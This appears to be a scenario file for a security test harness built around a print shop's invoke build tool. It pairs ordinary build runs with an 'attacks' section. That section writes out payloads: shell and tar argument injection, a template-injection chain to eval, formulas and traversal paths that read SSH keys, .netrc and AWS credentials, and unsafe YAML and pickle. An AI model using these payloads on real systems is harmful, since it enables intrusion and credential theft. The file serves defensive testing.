# SPDX-License-Identifier: Apache-2.0
"""invoke, with which a print shop makes its cards, posters and parcels."""
import importlib
import io
import json
import pickle
import shutil

import attackers
import stage

LETTERSPACE = {"__init__.py": '''"""Letters that touch."""

PAIRS = {"ffi": "\\ufb03", "fi": "\\ufb01", "fl": "\\ufb02"}


def ligatures(text):
    for pair, letter in PAIRS.items():
        text = text.replace(pair, letter)
    return text
'''}
LETTERSPACE_NEW = {
    "__init__.py": '''"""Letters that touch."""
from letterspace import pairs


def ligatures(text):
    for pair, letter in pairs.load().items():
        text = text.replace(pair, letter)
    return text
''',
    "pairs.py": "import json\nimport pathlib\n\n\ndef load():\n"
                "    with open(pathlib.Path(__file__).parent / "
                "'pairs.json') as file:\n"
                "        return json.load(file)\n",
    "pairs.json": json.dumps({"ffi": "\ufb03", "fi": "\ufb01",
                              "fl": "\ufb02", "ff": "\ufb00"})}
MENU = """title: {title}
template: card.txt.j2
lines: 14
resize: {size}
price: {price}
extras: [{extras}]
"""
COUNT = '''"""How many words there are to set."""


def finish(_, product, out):
    words = (product.folder / "text.txt").read_text().split()
    (out / "count.txt").write_text(f"{len(words)} words\\n")
'''
SEATS = '''"""A card for each seat."""
import csv


def finish(c, product, out):
    with open(product.folder / "seats.csv", encoding="utf-8") as file:
        for table, name in csv.reader(file):
            (out / f"table {table} {name}.txt").write_text(
                f"{name}\\n{c.shop.name}\\n")
'''
PRICES = '''"""Prices, sorted."""
import json


def finish(_, product, out):
    lines = (product.folder / "prices.json").read_text()
    with open(out / "prices.txt", "w") as file:
        for dish, price in sorted(json.loads(lines).items()):
            print(f"{dish:20} {price:6.2f}", file=file)
'''
LAYOUT = """{% extends "base.txt.j2" %}
{% block middle %}
{{ body }}
-- fold --
{{ client }}
{% endblock %}
"""
RUSH = ("-f", "config/rush.yaml")
FINE = ("-f", "config/fine.yaml")


def picture(kind, *size):
    """A picture of a format. Pillow is there when scenarios are played."""
    file = io.BytesIO()
    importlib.import_module("PIL.Image").new("RGB", size, "teal").save(
        file, kind)
    return file.getvalue()


class InvokeLetterpress(stage.Program):
    """A build tool that makes a print shop's products (invoke)."""
    packages = ["python3-invoke", "python3-yaml", "python3-jinja2",
                "python3-pil", "imagemagick", "make", "gcc"]

    def arrange(self):
        self.install("letterspace", "2.3.0", LETTERSPACE)
        mill = self.site("mill")
        for number, name in enumerate(
                ("paper", "paper/laid", "paper/cotton", "board/grey",
                 "inks", "board/heavy/museum 2027")):
            mill.page(f"/{name}.csv", f"{name},{18 + number}.50\n")
        stage.write(self.srv / "invoke.yaml",
                    "shop:\n  name: Finch & Ferry\n  keep: 2\n"
                    f"  mill: {mill.url}/\n")
        self.draw("business-cards", logo=("PNG", 90, 60))
        self.draw("stationery/letterheads", crest=("PNG", 64, 64),
                  border=("JPEG", 120, 30))
        self.draw("posters/fair", meadow=("TIFF", 200, 300),
                  sky=("JPEG", 300, 80))

    def arrange_benign(self):
        self.install("letterspace", "2.3.1", LETTERSPACE_NEW)

    # ---------------------------------------------------------- what one does
    def product(self, name, files):
        for path, text in files.items():
            stage.write(self.srv / "products" / name / path, text)

    def draw(self, name, **art):
        """art: file's stem -> format, width, height."""
        for stem, (kind, *size) in art.items():
            self.product(name, {f"art/{stem}.{kind.lower()}":
                                picture(kind, *size)})

    def menu(self, name, title, text, recipe="", price="copies * 0.4",
             size="150x150", **extras):
        """A product somebody adds. extras: file's stem -> text."""
        self.product(name, {
            "text.txt": text, "product.yaml": MENU.format(
                title=title, price=price, size=size,
                extras=", ".join(f"{stem}.txt" for stem in extras)),
            **{f"extras/{stem}.txt": words
               for stem, words in extras.items()},
            **({"recipe.py": recipe} if recipe else {})})

    def reckon(self, name, prices):
        """Names the price list of a product's paper."""
        path = self.srv / "products" / name / "product.yaml"
        path.write_text(path.read_text() + f"prices: {prices}\n")

    def inv(self, *words, cwd=None):
        return self.run(self.python, "/usr/bin/inv", *words, cwd=cwd)

    def does(self, *words, found="", status=0, cwd=None, made=()):
        self.expect_run(words, self.inv(*words, cwd=cwd), status, found, made)

    def builds(self, name, *more, before=(), made=()):
        self.does(*before, "products.build", name, *more,
                  found=f"built {name}", made=made)

    def releases(self, name, *numbers, kind="tar"):
        flat = name.replace("/", "-")
        ending = {"tar": "tar.gz", "zip": "zip"}[kind]
        more = ("--format", "zip") if kind == "zip" else ()
        for number in numbers:
            self.does("release.pack", name, "--number", number, *more,
                      found=f"packed {flat}-{number}.{ending}",
                      made=[f"dist/{flat}/{flat}-{number}.{ending}",
                            f"dist/{flat}/latest"])
        self.does("release.verify", name, found="all well")

    # --------------------------------------------------------------- recorded
    def train(self, day):
        (self.monday, self.tuesday, self.thursday)[day - 1]()
        self.every_day()

    def every_day(self):
        """What the shop does whatever the orders are."""
        self.does("--list", found="products.build")
        self.does("--help", "products.build", found="--client")
        self.does("products.list", found="posters/fair")
        self.does("products.all", found="posters/fair")
        self.does("products.build", "business-cards", found="up to date")
        self.does("tools.check", found="impose is well")
        self.does("products.build", "no-such-cards", status=1,
                  found="no product")
        self.does("stock.list", found="paper.csv")
        self.does("clean", "--proofs", found="everything")
        self.does("clean", found="everything")
        self.does("release.pack", "wedding", "--number", "9", status=2)

    def monday(self):
        self.does("tools.build")
        for client in ("Anna Berg", "Carl Dietz"):
            self.builds("business-cards", "--client", client,
                        made=["build/business-cards/proofs/logo.jpg"])
        self.builds("wedding", "--client", "Ada & Bo", "--date",
                    "2026-06-12", made=["build/wedding/envelope-003.txt"])
        self.builds("posters/fair", "--force", before=RUSH)
        self.builds("stationery/letterheads", "--client", "Doctor Ernst",
                    before=FINE)
        self.menu("menus/osteria", "Osteria Alba", "Fish of the day\n",
                  COUNT, wines="Red, white", sweets="Figs")
        self.draw("menus/osteria", fish=("PNG", 80, 50),
                  olive=("JPEG", 70, 70))
        self.builds("menus/osteria", "--client", "Alba",
                    made=["build/menus/osteria/count.txt"])
        stage.write(self.srv / "templates/narrow.txt.j2", LAYOUT)
        self.does("products.new", "bookmarks", "--title", "Bookmarks",
                  "--template", "narrow.txt.j2", found="new: bookmarks")
        self.draw("bookmarks", ribbon=("TIFF", 30, 160))
        self.builds("bookmarks")
        self.releases("wedding", "1.0.0", "1.0.1", "1.1.0")
        self.releases("menus/osteria", "0.9", kind="zip")
        self.releases("business-cards", "2026.1", "2026.2")
        self.does("release.list", "wedding", found="latest: wedding-1.1.0")
        self.does("release.prune", "wedding", found="gone: wedding-1.0.0")
        self.does("stock.prices", "business-cards", found="18.50")
        self.does("stock.prices", "stationery/letterheads", found="19.50")
        for name, copies in (("business-cards", 250), ("wedding", 80),
                             ("stationery/letterheads", 500)):
            self.does("products.quote", name, "--copies", copies,
                      found=f"{copies} x ")
        self.does("products.show", "menus/osteria", found="Fish")
        self.does("products.show", "wedding", "--part", "envelope-001.txt",
                  found="Ada")
        # Somebody saves too early.
        self.product("menus/osteria", {"text.txt": "{{ fish of the day }}\n"})
        self.does("products.build", "menus/osteria", status=1,
                  found="TemplateSyntaxError")
        self.product("menus/osteria", {"text.txt": "Fish and figs\n"})
        self.builds("menus/osteria")
        self.does("release.list", "menus/osteria",
                  cwd=self.srv / "products/menus", found="osteria-0.9.zip")
        self.does("clean", "--product", "bookmarks", found="bookmarks")

    def tuesday(self):
        self.does("tools.scrub")
        for client in ("Greta Holm", "Ivo Jansen", "Karin Lund"):
            self.builds("stationery/letterheads", "--client", client,
                        made=["build/stationery/letterheads/care.txt"])
        self.builds("posters/fair", "--date", "2026-07-04", before=FINE,
                    made=["build/posters/fair/numbers.txt"])
        self.builds("business-cards", "--client", "M. Nowak", before=RUSH)
        self.builds("wedding", "--client", "Olga & Piet", "--force")
        self.menu("menus/harbour", "Harbour Inn", "Mussels\nSoup\n", COUNT,
                  "copies * 0.35 + 4", "180x120", beers="Pale, dark")
        self.draw("menus/harbour", anchor=("JPEG", 90, 90))
        self.builds("menus/harbour", "--client", "Harbour Inn")
        self.menu("tables/guild-dinner", "Guild dinner", "Be seated.\n",
                  SEATS, "copies * 0.6", "100x60")
        self.product("tables/guild-dinner", {
            "seats.csv": "1,Quirin\n1,Rosa\n2,Stine\n"})
        self.draw("tables/guild-dinner", seal=("PNG", 60, 60))
        self.builds("tables/guild-dinner",
                    made=["build/tables/guild-dinner/table 1 Rosa.txt"])
        stage.write(self.srv / "templates/jar.txt.j2", LAYOUT)
        self.does("products.new", "labels/honey", "--title", "Honey labels",
                  "--template", "jar.txt.j2", found="new: labels/honey")
        self.draw("labels/honey", bee=("TIFF", 50, 50), hive=("PNG", 44, 60))
        self.builds("labels/honey", "--client", "Tilda Ude")
        self.releases("stationery/letterheads", "3.0", "3.1", "3.2", "3.3")
        self.releases("posters/fair", "7", kind="zip")
        self.releases("tables/guild-dinner", "1.0")
        self.does("release.prune", "stationery/letterheads", "--keep", "1",
                  found="gone: stationery-letterheads-3.0")
        self.does("release.list", "posters/fair", found="posters-fair-7.zip")
        self.reckon("posters/fair", "board/grey")
        self.does("stock.prices", "posters/fair", found="21.50")
        self.does("stock.prices", "business-cards", found="18.50")
        for name, copies in (("posters/fair", 40), ("menus/harbour", 60),
                             ("business-cards", 1000)):
            self.does("products.quote", name, "--copies", copies,
                      found=f"{copies} x ")
        self.does("products.quote", "wedding", found="100 x ")
        self.does("products.show", "posters/fair", "--part", "numbers.txt",
                  found="0020")
        self.does("products.show", "tables/guild-dinner", found="Guild",
                  cwd=self.srv / "products/tables/guild-dinner")
        self.product("labels/honey", {"text.txt": "{% if %}\n"})
        self.does("products.build", "labels/honey", status=1,
                  found="TemplateSyntaxError")
        self.product("labels/honey", {"text.txt": "Lime and heather\n"})
        self.builds("labels/honey")
        self.does("clean", "--product", "posters/fair", found="posters/fair")
        self.does("clean", "--dist", found="everything")

    def thursday(self):
        """For the calibration."""
        self.does("tools.build")
        for client in ("Uwe Voss", "Wilma Xander"):
            self.builds("business-cards", "--client", client)
        self.builds("wedding", "--client", "Yara & Zeno", before=RUSH)
        self.builds("posters/fair", "--date", "2026-08-15", before=FINE)
        self.menu("menus/tearoom", "Tearoom", "Scones\n", COUNT,
                  size="90x90", teas="Green, black", cakes="Plum")
        self.draw("menus/tearoom", cup=("PNG", 70, 50),
                  leaf=("TIFF", 30, 30))
        self.builds("menus/tearoom", "--client", "Miss Abel")
        self.menu("tables/jubilee", "Jubilee", "Fifty years.\n", SEATS)
        self.product("tables/jubilee", {"seats.csv": "4,Bruno\n5,Clara\n"})
        self.builds("tables/jubilee")
        self.does("products.new", "labels/cider", "--title", "Cider",
                  found="new: labels/cider")
        self.draw("labels/cider", apple=("JPEG", 55, 55))
        self.builds("labels/cider", "--client", "Dorit")
        self.releases("menus/tearoom", "1.0", "1.1", "1.2")
        self.releases("labels/cider", "0.1", kind="zip")
        self.does("release.prune", "menus/tearoom", found="gone:")
        self.does("release.list", "labels/cider", found="labels-cider-0.1")
        self.does("stock.prices", "business-cards", found="18.50")
        self.does("stock.prices", "stationery/letterheads", found="19.50")
        for name, copies in (("menus/tearoom", 30), ("labels/cider", 700),
                             ("wedding", 120)):
            self.does("products.quote", name, "--copies", copies,
                      found=f"{copies} x ")
        self.does("products.show", "labels/cider", found="Cider")
        self.does("products.show", "menus/tearoom", "--part", "teas.txt",
                  cwd=self.srv / "products/menus", found="Green")
        self.product("labels/cider", {"text.txt": "{{ title\n"})
        self.does("products.build", "labels/cider", status=1,
                  found="TemplateSyntaxError")
        self.product("labels/cider", {"text.txt": "Dry, from Dorset\n"})
        self.builds("labels/cider")
        self.does("clean", "--product", "menus/tearoom", found="tearoom")
        self.does("clean", "--dist", found="everything")

    # ----------------------------------------------------------- not recorded
    def benign(self):
        self.benign_products()
        self.benign_releases()
        self.benign_errors()

    def benign_products(self):
        # Other clients, with what names may have.
        for client in ("Mrs. Fay O'Hara & Sons", "Åse Þórsdóttir"):
            self.builds("business-cards", "--client", client,
                        made=["build/business-cards/proofs/logo.jpg"])
        self.builds("wedding", "--date", "2027-01-30", "--client", "Gil & Hu")
        # Deeper, with spaces and dots; pictures of other formats.
        name = "stationery/hotels/Room Cards v2.1"
        self.menu(name, "Room cards", "Room of {{ client }}\n", COUNT,
                  "max(5, copies * 0.2)", "222x111", **{
                      "house rules": "No piano after ten.",
                      "bar.prices 2027": "Fizz 9"})
        self.draw(name, **{"key.front view": ("GIF", 40, 80),
                           "door": ("BMP", 60, 60),
                           "bell": ("PNG", 33, 33)})
        self.builds(name, "--client", "Hotel St. Moritz", made=[
            f"build/{name}/plates/key.front view.png",
            f"build/{name}/house rules.txt", f"build/{name}/count.txt"])
        self.builds(name, "--force", before=RUSH)
        self.does("products.show", name, "--part", "bar.prices 2027.txt",
                  found="Fizz")
        self.menu("tables/spring ball", "Ball", "Dance.\n", SEATS)
        self.product("tables/spring ball", {
            "seats.csv": "12,Ines de Jong\n13,K. Lee\n"})
        self.builds("tables/spring ball", made=[
            "build/tables/spring ball/table 12 Ines de Jong.txt"])
        # A product with a template and a recipe of its own.
        self.own_template()
        self.does("products.new", "labels/jam/quince", "--title",
                  "Quince: 2027", found="new: labels/jam/quince")
        self.builds("labels/jam/quince", "--client", "Leo Moe", before=FINE)
        # The tool in C is mended.
        tool = self.srv / "tools/impose.c"
        tool.write_text(tool.read_text().replace("MOST 4096", "MOST 8192"))
        self.builds("posters/fair", "--date", "2027-05-01")
        self.does("products.all", found="jam/quince")
        for product, copies in ((name, 12), ("business-cards", 77777),
                                ("labels/jam/quince", 3)):
            self.does("products.quote", product, "--copies", copies,
                      found=f"{copies} x ")

    def own_template(self):
        stage.write(self.srv / "templates/folded.menu.txt.j2", LAYOUT)
        self.menu("menus/diner.24h", "Diner", "Eggs\n", PRICES)
        self.product("menus/diner.24h", {
            "prices.json": '{"Eggs": 4.5, "Toast": 2}'})
        path = self.srv / "products/menus/diner.24h/product.yaml"
        path.write_text(path.read_text().replace("card", "folded.menu"))
        self.reckon("menus/diner.24h", "board/heavy/museum 2027")
        self.builds("menus/diner.24h", "--client", "Nils",
                    made=["build/menus/diner.24h/prices.txt"])

    def benign_releases(self):
        name = "stationery/hotels/Room Cards v2.1"
        self.releases(name, "2.0.0-rc.1", "2.0.0", "2.0.1+build 7")
        self.releases("tables/spring ball", "2027.02.28", kind="zip")
        self.releases("wedding", "4.0")
        self.does("release.prune", name, "--keep", "1", found="gone: ")
        self.does("release.list", name, found="latest: ")
        self.does("release.list", "wedding", found="wedding-4.0",
                  cwd=self.srv / "products/stationery/hotels")
        self.reckon("labels/jam/quince", "paper/cotton")
        self.does("stock.prices", "labels/jam/quince", found="20.50")
        self.does("stock.prices", "menus/diner.24h", found="23.50")
        self.does("products.quote", "labels/jam/quince", found="100 x ")
        self.does("stock.list", found="cotton")

    def benign_errors(self):
        # Typing errors, and options of which the training shows siblings.
        self.does("--help", "release.pack", found="--number")
        self.does("-e", "products.build", "wedding", "--force",
                  found="impose")
        self.does("release.pack", "wedding", status=1, found="number")
        self.does("products.bild", "wedding", status=1)
        self.does("release.list", "nothing/at all", status=1,
                  found="no product")
        self.product("broken.sheet", {"product.yaml": "title: [x\n"})
        self.does("products.build", "broken.sheet", status=1,
                  found="while parsing")
        shutil.rmtree(self.srv / "products/broken.sheet")
        self.product("menus/diner.24h", {"art/torn.png": b"no picture"})
        self.does("products.build", "menus/diner.24h", status=1,
                  found="UnidentifiedImageError")
        self.does("products.show", "wedding", "--part", "envelope-900.txt",
                  status=1, found="No such file")
        self.does("clean", "--product", "tables/spring ball", "--proofs",
                  found="tables/spring ball")
        self.does("clean", "--dist", found="everything")

    def health(self):
        self.builds("business-cards", "--client", "Anna Berg", "--force")
        self.does("products.list", found="posters/fair")

    # ----------------------------------------------------------------- attacks
    def order(self, words="x\n", recipe="", **sheet):
        """A stranger's product, and what building it says. sheet: of its
        product.yaml."""
        self.product("orders/666", {
            "text.txt": words, "product.yaml": json.dumps({
                "title": "Order", "template": "card.txt.j2", **sheet}),
            **({"recipe.py": recipe} if recipe else {})})
        return self.inv("products.build", "orders/666")[1]

    def made(self, name="text.txt"):
        path = self.srv / "build/orders/666" / name
        return path.read_bytes() if path.exists() else b""

    def in_recipe(self, code):
        return self.order(recipe=code + "\n\ndef finish(*_):\n    pass\n")

    def in_text(self, expression):
        """A template of the customer's, with more than words in it."""
        self.order("{{ cycler.__init__.__globals__.__builtins__.eval("
                   + json.dumps(expression) + ") }}\n")
        return self.made()

    def in_price(self, formula):
        self.order(price=formula)
        return self.inv("products.quote", "orders/666")[1]

    @stage.attack("command injection")
    def size_of_a_plate_is_a_command(self):
        self.draw("orders/666", dot=("PNG", 9, 9))
        return self.runs_line(lambda line: self.order(
            resize=f"9x9 info:; {line}; :"))

    @stage.attack("argument injection")
    def sheet_in_the_parcel_is_an_option_of_tar(self):
        names = ["run.txt", "--checkpoint=1",
                 "--checkpoint-action=exec=sh run.txt"]

        def use(line):
            for name in names:
                self.product("orders/666", {f"extras/{name}": line + "\n"})
            self.order(extras=names)
            self.inv("release.pack", "orders/666", "--number", "1")
        return self.runs_line(use)

    @stage.attack("template injection")
    def text_reads_a_password(self):
        return self.template_reads(self.in_text)

    @stage.attack("template injection")
    def text_runs_a_command(self):
        return self.template_runs(self.in_text)

    @stage.attack("eval injection")
    def price_prints_a_key(self):
        return self.is_told(self.in_price(
            f"open('{self.home}/.ssh/id_rsa').read()"))

    @stage.attack("unsafe yaml")
    def product_sheet_runs_a_command(self):
        def use(line):
            self.product("orders/666", {"product.yaml": attackers.in_yaml(
                f"__import__('os').system({line!r})")})
            self.inv("products.list")
            shutil.rmtree(self.srv / "products/orders")
        return self.runs_line(use)

    @stage.attack("unsafe pickle")
    def state_of_the_builds_is_a_bomb(self):
        def use(line):
            state = stage.write(
                self.srv / "build/state.pickle", pickle.dumps(
                    attackers.Bomb(exec, f"import os; os.system({line!r})")))
            self.inv("products.build", "wedding")
            state.unlink(missing_ok=True)
        return self.runs_line(use)

    @stage.attack("ssrf")
    def price_list_is_of_an_inner_service(self):
        def use(url):
            self.order(prices=url)
            return self.inv("stock.prices", "orders/666")
        return self.fetches_inside(use)

    @stage.attack("traversal")
    def text_is_a_password_file(self):
        self.order(text="../../../../home/.netrc")
        return self.is_told(self.made())

    @stage.attack("secret disclosure")
    def part_that_is_shown_is_the_payroll(self):
        self.inv("products.build", "wedding")
        return self.is_told(self.inv(
            "products.show", "wedding", "--part",
            "../../../payroll/2026.csv"))

    @stage.attack("symlink swap")
    def sheet_in_the_parcel_is_a_link(self):
        self.product("orders/666", {"extras/terms.txt": "Net 30.\n"})
        link = self.srv / "products/orders/666/extras/terms.txt"
        link.unlink()
        link.symlink_to(self.home / ".aws/credentials")
        self.order(extras=["terms.txt"])
        return self.is_told(self.made("terms.txt"))

    @stage.attack("write to code")
    def page_becomes_a_recipe(self):
        target = self.srv / "products/business-cards/recipe.py"
        self.order("def finish(*_): pass\n",
                   output="../../../products/business-cards/recipe.py")
        return target.exists()

    @stage.attack("write to start-up file")
    def page_becomes_the_settings_of_the_user(self):
        self.order("planted\n", output="../../../../home/.profile")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("configuration injection")
    def settings_name_another_shell(self):
        def use(line):
            shell = stage.write(self.tmp / "sh", f"#!/bin/sh\n{line}\n", 0o755)
            stage.write(self.srv / "config/night.yaml",
                        f"run:\n  shell: {shell}\n")
            self.inv("-f", "config/night.yaml", "products.build", "wedding")
        return self.runs_line(use)

    @stage.attack("reverse shell")
    def recipe_calls_home(self):
        return self.calls_home(self.in_recipe)

    @stage.attack("ctypes")
    def recipe_calls_libc(self):
        return self.runs_libc(self.in_recipe)

    @stage.attack("fork+exec")
    def recipe_forks_and_execs(self):
        return self.forks(self.in_recipe)

    @stage.attack("malicious dependency")
    def letterspace_steals_credentials(self):
        return self.dependency_steals(
            "letterspace", "2.3.2", LETTERSPACE,
            lambda: self.builds("business-cards", "--force"))
